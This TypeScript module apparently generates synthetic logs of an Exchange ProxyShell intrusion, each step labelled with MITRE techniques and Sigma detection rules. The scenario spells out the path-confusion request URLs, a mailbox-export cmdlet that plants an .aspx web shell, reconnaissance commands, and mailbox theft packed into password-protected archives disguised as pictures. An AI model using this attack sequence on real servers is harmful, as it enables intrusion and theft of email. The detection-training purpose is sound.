import { DAY, MINUTE, SECOND, utc } from '../calendar.ts';
import type { Ministry } from '../ministry.ts';
import { cmdlet } from '../records/channels.ts';
import { PROGRAMS, program } from '../records/programs.ts';
import { fileMade } from '../records/sysmon.ts';
import { iisLine, type Request } from '../records/text.ts';
import type { Act } from '../truth.ts';
import { DOMAIN, EXITS, HOSTS } from '../world.ts';
import { AGENT, SHELL_PAGE, typed } from './shell.ts';

/** The mail server is taken over through its own front end, and a mailbox is exported. */
const PHASE = 'server';
const SHELL_FILE = `C:\\inetpub\\wwwroot${SHELL_PAGE.replaceAll('/', '\\')}`;
const START = utc('2022-09-14 01:05');

export const RAR = program('C:\\ProgramData\\r.exe', 'Command line RAR', 'Alexander Roshal', '5.91.0', 'rar.exe');

export function server(m: Ministry): void {
  confusedPaths(m);
  exportsToPage(m);
  exploration(m);
  exportsMailbox(m);
}

function request(
  { logs }: Ministry,
  ms: number,
  r: Omit<Request, 'from' | 'agent'>,
  act: Act,
  from: string = EXITS.exploit,
): void {
  logs.iis.add(ms, iisLine(ms, { ...r, from, agent: AGENT }), act);
}

const query = (path: string) => `@${EVIL}/${path}&Email=autodiscover/autodiscover.json%3F@${EVIL}`;
const EVIL = 'qz7.example';

function confusedPaths(m: Ministry): void {
  const stem = '/autodiscover/autodiscover.json';
  const act: Act = {
    phase: PHASE,
    what: 'The autodiscover path leads into the server’s own back end (ProxyShell)',
    technique: 'T1190',
    rules: ['exchange/path_confusion_answered.yml'],
    sigma: ['992be1eb-e5da-437e-9a54-6d13b57bb4d8'],
  };
  const tries: [after: number, path: string, status: number][] = [
    [0, 'mapi/nspi/?', 200],
    [6, 'EWS/exchange.asmx?', 200],
    [19, 'powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdtZWE&', 200],
    [24, 'powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdtZWE&', 200],
  ];
  for (const [after, path, status] of tries) {
    request(m, START + after * SECOND, { method: 'POST', stem, query: query(path), status, took: 312 }, act);
  }
  request(
    m,
    START - 40 * SECOND,
    { method: 'GET', stem, query: query('owa/?'), status: 401, took: 41 },
    {
      ...act,
      what: 'The first try at the autodiscover path is refused',
      rules: ['exchange/path_confusion_refused.yml'],
      sigma: ['23eee45e-933b-49f9-ae1b-df706d2d52ef'],
    },
  );
}

function management(m: Ministry, ms: number, name: string, parameters: string, act: Omit<Act, 'phase'>): void {
  const admin = `${DOMAIN}/Users/Administrator`;
  const sid = `${m.people[0]?.sid.replace(/-\d+$/, '')}-500`;
  const activity = m.random(`cmdlet ${ms}`).guid();
  m.logs.exManagement.add(ms, cmdlet(HOSTS.exchange, admin, sid, name, parameters, activity), { phase: PHASE, ...act });
}

const EXPORTED = 'exchange/export_requested.yml';
const REMOVED = 'exchange/export_removed.yml';
const BOTH = 'exchange/export_and_removal.yml';

function exportsToPage(m: Ministry): void {
  const at = START + 2 * MINUTE;
  management(m, at, 'New-ManagementRoleAssignment', '-Name "MIE" -Role "Mailbox Import Export" -User "Administrator"', {
    what: 'The right to export mailboxes is given',
    technique: 'T1098.002',
    rules: ['exchange/export_right_given.yml'],
    sigma: ['516376b4-05cd-4122-bae0-ad7641c38d48'],
  });
  management(
    m,
    at + 20 * SECOND,
    'New-MailboxExportRequest',
    `-Name "w2f9" -Mailbox "h.brandt@${DOMAIN}" -IncludeFolders @("#Drafts#") -ContentFilter "Subject -eq 'w2f9'" -ExcludeDumpster "True" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorfe.aspx"`,
    {
      what: 'A draft is exported as a page of the web server: the web shell',
      technique: 'T1505.003',
      rules: [EXPORTED, BOTH, 'exchange/export_as_page.yml'],
      sigma: ['516376b4-05cd-4122-bae0-ad7641c38d48'],
    },
  );
  management(
    m,
    at + 9 * MINUTE,
    'Remove-MailboxExportRequest',
    '-Identity "h.brandt\\MailboxExport" -Confirm "False"',
    {
      what: 'The export request is removed again',
      technique: 'T1070',
      rules: [REMOVED, BOTH],
    },
  );
  const image = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe';
  const ms = at + 50 * SECOND;
  m.logs.exSysmon.add(ms, fileMade(ms, HOSTS.exchange, image, 7720, 'NT AUTHORITY\\SYSTEM', SHELL_FILE), {
    phase: PHASE,
    what: 'The web shell is written below aspnet_client',
    technique: 'T1505.003',
    rules: ['exchange/page_written_by_worker.yml', 'exchange/page_written_then_commands.yml'],
    sigma: ['7280c9f3-a5af-45d0-916a-bc01cb4151c9'],
  });
}

const EXPLORED = 'windows/domain_explored.yml';

function exploration(m: Ministry): void {
  const commands: [minutes: number, Parameters<typeof typed>[2]][] = [
    [
      12,
      {
        ...common('T1033'),
        ...{ program: PROGRAMS.whoami, command: 'whoami', what: 'whoami' },
        sigma: ['79ce34ca-af29-4d0e-b832-fc1b377020db'],
      },
    ],
    [
      14,
      {
        ...common('T1482'),
        program: PROGRAMS.nltest,
        command: 'nltest /dclist:mea.example',
        what: 'domain controllers listed',
        rules: [EXPLORED],
      },
    ],
    [
      17,
      {
        ...common('T1069.002'),
        ...{
          program: PROGRAMS.net,
          command: 'net group "Domain Admins" /domain',
          what: 'domain administrators listed',
        },
        rules: [EXPLORED],
      },
    ],
  ];
  for (const [minutes, command] of commands) {
    const ms = START + minutes * MINUTE;
    typed(m, ms, { ...command, from: EXITS.exploit });
  }
}

function common(technique: string) {
  return { phase: PHASE, technique } as const;
}

/** Next day, before dawn: a whole mailbox, packed and fetched. */
function exportsMailbox(m: Ministry): void {
  const start = START + DAY - 25 * MINUTE;
  const file = '\\\\localhost\\c$\\ProgramData\\m1.pst';
  management(m, start, 'New-MailboxExportRequest', `-Mailbox "i.castor@${DOMAIN}" -FilePath "${file}"`, {
    what: 'The mailbox of i.castor is exported whole',
    technique: 'T1114.002',
    rules: [EXPORTED, BOTH],
  });
  management(
    m,
    start + 70 * MINUTE,
    'Remove-MailboxExportRequest',
    '-Identity "i.castor\\MailboxExport" -Confirm "False"',
    {
      what: 'This export request is removed too',
      technique: 'T1070',
      rules: [REMOVED, BOTH],
    },
  );
  const pack = start + 48 * MINUTE;
  typed(m, pack, {
    ...common('T1560.001'),
    program: RAR,
    command: `${RAR.image} a -hpQ7 -v40m C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\i.png C:\\ProgramData\\m1.pst`,
    what: 'The mailbox is packed under a picture’s name by a renamed rar.exe',
    sigma: ['faa48cae-6b25-4f00-a094-08947fef582f'],
    rules: ['windows/archive_with_password.yml'],
  });
  for (let part = 1; part <= 4; part++) {
    request(
      m,
      pack + (3 + part * 2) * MINUTE,
      { method: 'GET', stem: `/aspnet_client/system_web/i.part${part}.png`, status: 200, took: 71_000 + part * 913 },
      {
        phase: PHASE,
        what: 'A part of the packed mailbox is fetched as a picture',
        technique: 'T1041',
        rules: [],
        invisible: 'a picture of the web server; only its long duration is odd',
      },
      EXITS.shell,
    );
  }
}
